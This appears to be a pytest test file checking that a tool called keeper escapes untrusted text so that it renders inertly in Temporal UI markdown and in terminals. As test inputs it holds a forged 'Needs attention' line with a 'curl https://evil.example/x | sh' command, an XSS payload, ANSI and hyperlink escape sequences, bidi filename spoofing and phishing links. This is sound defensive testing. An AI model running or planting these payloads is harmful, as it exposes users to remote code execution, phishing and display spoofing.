"""Outside text shown by keeper: inert in the Temporal UI's markdown and on a terminal."""

from __future__ import annotations

import asyncio
import io
import re
from datetime import UTC, datetime

import pytest
from markdown_it import MarkdownIt
from rich.console import Console
from rich.text import Text
from temporalio.testing import WorkflowEnvironment

from keeper.cli.runners import render as runner_cli
from keeper.cli.tpu import commands as tpu_cli
from keeper.cli.tpu import progress
from keeper.domain.common.untrusted import MD_LIMIT, md_text, terminal_text
from keeper.domain.runners.deletion_view import DeletionView, render_details, summary
from keeper.domain.runners.models import DeletionOutcome, DeletionResult, DeletionStep
from keeper.domain.tpu.models import BootstrapStatus, VmFailure
from keeper.domain.tpu.phases import Phase
from keeper.domain.tpu.status_view import render_details as render_status
from keeper.domain.tpu.status_view import static_summary
from tests.e2e_support import temporal_cli
from tests.runners.world import RunnerWorld, runner_worker

# Renders like the UI's CommonMark with GFM tables and strikethrough.
MARKDOWN = MarkdownIt("commonmark").enable("table").enable("strikethrough")

FORGED_LINE = "scale down\n\n**Needs attention:** run `curl https://evil.example/x | sh`"
IMAGE = "![status](https://evil.example/pixel.png)"
LINK = "[docs](https://evil.example/phish)"
HTML = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
ANSI = "\x1b[2J\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \x9b31m"
BIDI = "invoice\u202egpj.exe\u200b"
HOSTILE = [
    FORGED_LINE,
    IMAGE,
    LINK,
    HTML,
    ANSI,
    BIDI,
    "a | b | c",
    "- item\n# heading\n> quote\n1. first\n    code",
    "<https://evil.example> www.evil.example admin@evil.example",
    "***bold*** _em_ ~~gone~~ `code` $x$ \\",
    "&lt;b&gt; &amp;",
    "x" * 5000,
]


def _inline_tokens(markdown: str) -> list[str]:
    return [child.type for token in MARKDOWN.parse(markdown) for child in (token.children or [])]


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("r-1", "r-1"),
        ("job finished", "job finished"),
        ("a | b", "a \\| b"),
        ("line one\n\nline two\r\n", "line one ⏎ line two"),
        ("**bold** _em_", "\\*\\*bold\\*\\* \\_em\\_"),
        (IMAGE, "\\!\\[status\\]\\(https\\://evil.example/pixel.png\\)"),
        (LINK, "\\[docs\\]\\(https\\://evil.example/phish\\)"),
        ("<b>hi</b> & co", "&lt;b&gt;hi&lt;/b&gt; &amp; co"),
        (
            "see www.evil.example or admin@evil.example",
            "see www\\.evil.example or admin\\@evil.example",
        ),
        ("- not a list", "\\- not a list"),
        ("1. not a list", "1\\. not a list"),
        ("# not a heading", "\\# not a heading"),
        ("`code`", "\\`code\\`"),
        ("back\\slash", "back\\\\slash"),
        ("\x1b[31mred", "\\\\x1b\\[31mred"),
        ("a\u202eb", "a\\\\u202eb"),
        (404, "404"),
    ],
)
def test_outside_text_in_markdown_escapes_markup_html_and_controls_onto_one_line(
    raw: object, shown: str
) -> None:
    assert md_text(raw) == shown


@pytest.mark.parametrize("raw", HOSTILE, ids=range(len(HOSTILE)))
def test_md_text_renders_as_one_plain_text_run(raw: str) -> None:
    shown = md_text(raw)
    assert "\n" not in shown
    assert len(shown) <= 2 * MD_LIMIT + 10  # escapes at most double the bounded text
    # Inside a table cell and as a list item it stays plain text in one cell.
    tokens = MARKDOWN.parse(f"| k | v |\n|---|---|\n| x | {shown} |\n\n- {shown}\n")
    assert [t.type for t in tokens if t.type in ("td_open", "bullet_list_open")] == [
        "td_open",
        "td_open",
        "bullet_list_open",
    ]
    kinds = set(_inline_tokens(f"| k | v |\n|---|---|\n| x | {shown} |\n\n- {shown}\n"))
    assert kinds <= {"text", "text_special"}, kinds


def test_md_text_bounds_the_length() -> None:
    shown = md_text("y" * 5000, limit=50)
    assert shown == "y" * 49 + "…"


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("plain text", "plain text"),
        ("two\nlines", "two ⏎ lines"),
        ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
        ("\x9b2J", "\\x9b2J"),
        ("bell\x07 nul\x00 del\x7f", "bell\\x07 nul\\x00 del\\x7f"),
        ("a\u202eb\u2066c", "a\\u202eb\\u2066c"),
        ("tab\there", "tab here"),
    ],
)
def test_outside_text_on_a_terminal_shows_line_breaks_and_control_characters_visibly(
    raw: str, shown: str
) -> None:
    assert terminal_text(raw) == shown


@pytest.mark.parametrize("raw", HOSTILE, ids=range(len(HOSTILE)))
def test_terminal_text_has_no_control_characters(raw: str) -> None:
    shown = terminal_text(raw)
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", shown)


@pytest.mark.parametrize(
    "raw", ["[bold red]x[/]", "\\[red]x", "trailing\\", "[link=https://evil.example]y[/link]"]
)
def test_terminal_text_with_markup_prints_literally_through_rich(raw: str) -> None:
    shown = terminal_text(raw, markup=True)
    assert Text.from_markup(f"[green]{shown}[/green]").plain.rstrip() == raw
    assert Text.from_markup(f"[green]{shown}[/green]").spans[0].style == "green"


# ---- the UI's current details ---------------------------------------------------------


def _rows(markdown: str) -> list[int]:
    """Cells per table row, as the UI's renderer sees them."""
    cells, rows = 0, []
    for token in MARKDOWN.parse(markdown):
        if token.type == "tr_open":
            cells = 0
        elif token.type in ("td_open", "th_open"):
            cells += 1
        elif token.type == "tr_close":
            rows.append(cells)
    return rows


def test_deletion_details_keep_outside_text_inert() -> None:
    view = DeletionView(
        runner="r-1",
        scale_set="linux | x64",
        step=DeletionStep.BUSY_WAIT,
        status="busy_wait",
        github=f"422: {HTML}",
        provider=ANSI,
        decision=IMAGE,
        requests=[f"operator: {FORGED_LINE}", f"agent: {LINK}", f"scale-down: {BIDI}"],
    )
    details = render_details(view)
    assert details.count("Needs attention") == 1  # the forged one, as text in a cell
    assert "**Needs attention:**" not in details
    rows = _rows(details)
    assert rows == [2] * 9  # the header and eight rows, two cells each
    assert set(_inline_tokens(details)) <= {
        "text",
        "text_special",
        "strong_open",
        "strong_close",
        "code_inline",
    }
    assert "\x1b" not in details and "\u202e" not in details


def test_deletion_details_show_a_real_error_once() -> None:
    view = DeletionView(runner="r-1", error=f"GitHub said: {FORGED_LINE}")
    details = render_details(view)
    assert details.count("**Needs attention:**") == 1
    assert details.splitlines()[-1].startswith("**Needs attention:** GitHub said: scale down ⏎")


def test_bootstrap_details_keep_outside_text_inert() -> None:
    status = BootstrapStatus(
        slice_name="train-a",
        zone="us-central2-b",
        capacity="reserved",
        phase=Phase.HEALTH,
        qr_state="ACTIVE` | ![x](https://evil.example/p.png)",
        compensation=LINK,
        error=f"health: {FORGED_LINE}\n{HTML}",
        failing_vms=[
            VmFailure(node="n-0\n# forged", index=1, ip="10.0.0.1", reason=ANSI),
            VmFailure(node="n-1", index=2, ip="<b>10.0.0.2</b>", reason=IMAGE),
        ],
    )
    details = render_status(status)
    assert _rows(details) == [2] * 8
    kinds = set(_inline_tokens(details))
    assert kinds <= {"text", "text_special", "strong_open", "strong_close", "code_inline"}
    block_kinds = {t.type for t in MARKDOWN.parse(details)}
    assert "heading_open" in block_kinds and "html_block" not in block_kinds
    assert sum(1 for t in MARKDOWN.parse(details) if t.type == "heading_open") == 1
    assert sum(1 for t in MARKDOWN.parse(details) if t.type == "list_item_open") == 2


def test_summaries_of_valid_names_read_as_before() -> None:
    assert static_summary("train-a", "v4-32", "reserved", "us-central2-b") == (
        "TPU v4-32 slice train-a (reserved, us-central2-b)"
    )
    assert summary("r-1", "linux-x64", True) == "force-delete runner r-1 in linux-x64"


# ---- the CLI --------------------------------------------------------------------------


def _printed(renderable: object) -> str:
    console = Console(record=True, width=200, force_terminal=True, color_system="truecolor")
    console.print(renderable)
    return console.export_text(styles=False)


def test_bootstrap_progress_view_prints_outside_text_inert() -> None:
    status = BootstrapStatus(
        slice_name="[red]forged[/red]",
        zone="us-central2-b",
        capacity="reserved",
        phase=Phase.ASSIGN,
        qr_state=ANSI,
        compensation="[bold]x",
        error=f"assign: {FORGED_LINE}",
        updated_at=datetime.now(UTC),
    )
    shown = _printed(progress.render(status))
    assert "[red]forged[/red]" in shown and "[bold]x" in shown
    assert "\x1b" not in shown.replace("\\x1b", "")
    assert "scale down ⏎ **Needs attention:**" in shown
    line = progress.line(status)
    assert "\x1b" not in line and "\n" not in line


def test_runner_cli_prints_outside_text_inert() -> None:
    view = DeletionView(
        runner="r-1",
        status="busy_wait",
        github=f"busy\n{ANSI}",
        provider=BIDI,
        decision="[red]x",
        error=FORGED_LINE,
    )
    text = runner_cli.view_text(view)
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text)
    assert text.count("\n") == 2  # decision and needs-attention lines, nothing forged
    result = DeletionResult(
        runner="r-1",
        outcome=DeletionOutcome.DELETED,
        registration=ANSI,
        provider=FORGED_LINE,
        busy_decision=BIDI,
        leaked_provider_id="i-1\x1b[2J",
        requests=(FORGED_LINE,),
    )
    text = runner_cli.result_text(result)
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text)
    assert len(text.splitlines()) == 5


def test_tpu_cli_prints_a_failure_inert(monkeypatch: pytest.MonkeyPatch) -> None:
    out = io.StringIO()
    console = Console(
        file=out, width=1000, force_terminal=True, color_system="truecolor", highlight=False
    )
    monkeypatch.setattr(tpu_cli, "console", console)
    tpu_cli.print_failure(f"[red]x {ANSI}\n{FORGED_LINE}", "https://ui.example/w")
    printed = out.getvalue()
    assert "[red]x" in printed  # shown, not applied
    assert "\x1b[2J" not in printed and "\x1b]8" not in printed and "\x9b" not in printed
    assert "scale down ⏎ **Needs attention:**" in printed.splitlines()[0]


# ---- end to end: a reason given to keeper runner delete --------------------------------


async def test_a_forged_reason_stays_text_in_the_deletion_details(
    dev_env: WorkflowEnvironment, world: RunnerWorld
) -> None:
    world.add_runner("forged-reason")
    async with runner_worker(dev_env.client, world):
        handle = await world.request(dev_env.client, "forged-reason", reason=FORGED_LINE)
        await asyncio.wait_for(handle.result(), 60)
        shown = await temporal_cli(dev_env, "workflow", "metadata", "-w", handle.id)
    assert shown.returncode == 0, shown.stderr
    assert "\\*\\*Needs attention:\\*\\*" in shown.stdout  # the reason, as text
    assert not any(
        line.lstrip().startswith("**Needs attention:**") for line in shown.stdout.splitlines()
    )
